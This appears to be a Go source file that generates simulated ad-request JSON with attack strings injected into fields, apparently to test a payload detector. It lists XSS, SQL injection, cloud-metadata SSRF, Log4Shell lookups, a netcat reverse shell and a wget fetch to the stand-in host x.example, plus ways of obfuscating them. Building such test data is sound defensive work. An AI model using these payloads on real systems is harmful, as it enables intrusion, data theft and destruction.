package simulate

// payloads are attacks in strings. The id names the pattern in package inspect/payload which finds
// the attack.
var payloads = []plan{
	attack("xss.script-tag", "a script element", `"><script>alert(1)</script>`),
	attack("xss.iframe-tag", "a foreign page", `<iframe src=//x.example></iframe>`),
	attack("xss.svg-event", "an event handler on a picture", `<svg onload=fetch('//x.example')>`),
	attack("xss.img-src-x", "a picture that fails", `<img src=x onerror=prompt(1)>`),
	attack("xss.document-cookie", "reads the session", `'-new Image().src='//x.example?'+document.cookie-'`),
	attack("xss.eval-atob", "a program in base64", `eval(atob('YWxlcnQoMSk='))`),
	attack("url.javascript", "an address that is a program", `javascript:fetch('//x.example')`),
	attack("url.data-html", "an address that is a page", `data:text/html;base64,PHNjcmlwdD4=`),
	attack("url.cloud-metadata", "asks a cloud for the server's keys", `http://169.254.169.254/latest/meta-data/iam/`),
	attack("url.file-etc", "reads a file of the server", `file:///etc/hosts`),
	attack("url.gopher", "speaks to a service beside the server", `gopher://127.0.0.1:6379/_FLUSHALL`),
	attack("sqli.union-select", "appends a query", `1' union select null,version() -- -`),
	attack("sqli.or-true-quoted", "a condition that is always true", `x' or '1'='1`),
	attack("sqli.drop-table", "drops a table", `x'; drop table users -- -`),
	attack("sqli.sleep", "makes the database wait", `1 and sleep(5)`),
	attack("sqli.waitfor", "makes the database wait", `1; waitfor delay '0:0:5' -- -`),
	attack("sqli.information-schema", "asks for the tables", `1 and (select 1 from information_schema.tables)`),
	attack("sqli.xp-cmdshell", "runs a command through the database", `'; exec xp_cmdshell 'dir'`),
	attack("template.jndi", "loads a class through a log (Log4Shell)", `${jndi:ldap://x.example/a}`),
	attack("template.nested-lookup", "the same, in disguise", `${${lower:j}ndi:ldap://x.example/a}`),
	attack("template.jinja-seven", "the usual probe of templates", `{{7*7}}`),
	attack("template.class-mro", "walks from a template to the interpreter", `{{''.__class__.__mro__[1]}}`),
	attack("template.spring-runtime", "reaches Java through an expression", `${T(java.lang.Runtime).getRuntime()}`),
	attack("template.php", "embedded PHP", `<?php system($_GET[0]);`),
	attack("command.traversal", "leaves the folder", `../../../../windows/win.ini`),
	attack("command.etc-passwd", "reads the usual file", `x;head /etc/passwd`),
	attack("command.bin-sh", "runs a shell", `;nc -e /bin/sh x.example 4444`),
	attack("command.wget", "fetches a program", `;wget http://x.example/a`),
	attack("command.substitution-id", "the usual probe of shells", `$(id)`),
	attack("command.shellshock", "a function that a shell runs (Shellshock)", `() { :;}; echo x`),
	attack("command.powershell", "runs a shell", `powershell -enc AAAA`),
}

func attack(id, about, text string) plan {
	return plan{Kind: Kind{Payload, id, about}, channels: anyChannel, attack: text}
}

// encodings are how an attack is written, by their weight of a hundred. The first three are what
// JSON itself allows; the others need a further decoding to be seen (payload.Layers).
var encodings = [...]struct {
	name, about string
	weight      int
}{
	{"plain", "as it is", 40},
	{"case", "in large and small letters", 15},
	{"escapes", "with JSON's \\u escapes", 15},
	{"percent", "with percent encoding, as in addresses", 12},
	{"entity", "with HTML's character references", 8},
	{"fullwidth", "in the wide letters of Unicode", 5},
	{"twice", "with escapes that are left after those of JSON", 5},
}

// Encodings returns how attacks are written: what labels of payloads have as their "how".
func Encodings() []Kind {
	list := make([]Kind, len(encodings))
	for i, e := range encodings {
		list[i] = Kind{Payload, e.name, e.about}
	}
	return list
}

// targets are the strings that attacks are put into.
var (
	siteTargets = [...]member{sitePage, siteRef, siteName, siteKeywords, pubName, devUA, userID, impTagID, reqExt}
	appTargets  = [...]member{appName, appBundle, appStoreURL, appVer, pubName, devUA, devModel, userID, impTagID, reqExt}
)

// aim chooses the string for the attack, and its encoding.
func (w *writer) aim() {
	key := hash(w.r.key, 95)
	if w.r.channel == onSite {
		w.target = siteTargets[key%uint64(len(siteTargets))]
	} else {
		w.target = appTargets[key%uint64(len(appTargets))]
	}
	rest := int(key >> 16 % 100)
	for i := range encodings {
		if rest -= encodings[i].weight; rest < 0 {
			w.encoding = i
			break
		}
	}
	w.how = encodings[w.encoding].name
}

// carries says what a plan with an attack says about a member.
func (w *writer) carries(m member) int {
	if m == w.target {
		return aboutPut
	}
	switch m {
	case reqDevice:
		return map2(members[w.target].object == objDevice, aboutForce, aboutNothing)
	case reqUser:
		return map2(members[w.target].object == objUser, aboutForce, aboutNothing)
	case sitePublisher, appPublisher:
		return map2(members[w.target].object == objPublisher, aboutForce, aboutNothing)
	}
	return aboutNothing
}

// attack writes the value of the target: text as it is usual there, with the attack at its end.
func (w *writer) attack(m member) {
	r := &w.r
	if m == reqExt {
		w.open()
		w.dst = append(w.dst, `"note":`...)
		w.dst = append(w.dst, '"')
		w.encode(r.plan.attack)
		w.dst = append(w.dst, '"')
		w.close()
		return
	}
	at := w.begin()
	switch m {
	case sitePage:
		w.dst = append(r.site.appendPage(w.dst, r.page(), false), "?q="...)
	case siteRef:
		w.dst = append(w.dst, "https://www.google.com/search?q="...)
	case siteName:
		w.dst = append(appendName(w.dst, r.site.language, r.site.words, r.site.number), ' ')
	case appName:
		w.dst = append(r.app.appendName(w.dst), ' ')
	case appBundle:
		w.dst = r.app.appendBundle(w.dst)
	case appStoreURL:
		w.dst = append(r.app.appendStoreURL(w.dst, r.user.country), '?')
	case devUA:
		w.dst = append(appendUA(w.dst, &r.device, r.agent, &r.app), ' ')
	}
	w.end(at)
	w.dst = w.dst[:len(w.dst)-1] // the quote
	w.encode(r.plan.attack)
	w.dst = append(w.dst, '"')
}

// encode writes the attack inside a string.
func (w *writer) encode(text string) {
	for _, c := range []byte(text) {
		letter := c|0x20 >= 'a' && c|0x20 <= 'z'
		digit := c >= '0' && c <= '9'
		switch encodings[w.encoding].name {
		case "case":
			if letter && (w.r.key>>(c&31)&1 == 0) {
				c ^= 0x20
			}
		case "escapes":
			if !letter && !digit || c&3 == 1 {
				w.dst = appendU(w.dst, uint16(c))
				continue
			}
		case "percent":
			if !letter && !digit {
				w.dst = append(w.dst, '%', hexDigits[c>>4], hexDigits[c&15])
				continue
			}
		case "entity":
			if !letter && !digit {
				w.dst = append(w.dst, "&#x"...)
				w.dst = append(w.dst, hexDigits[c>>4], hexDigits[c&15], ';')
				continue
			}
		case "fullwidth":
			if c > ' ' {
				w.dst = append(w.dst, string(0xff00+rune(c)-0x20)...)
				continue
			}
		case "twice":
			if !letter && !digit {
				w.dst = append(w.dst, '\\')
				w.dst = appendU(w.dst, uint16(c))
				continue
			}
		}
		if c == '"' || c == '\\' {
			w.dst = append(w.dst, '\\')
		}
		w.dst = append(w.dst, c)
	}
}
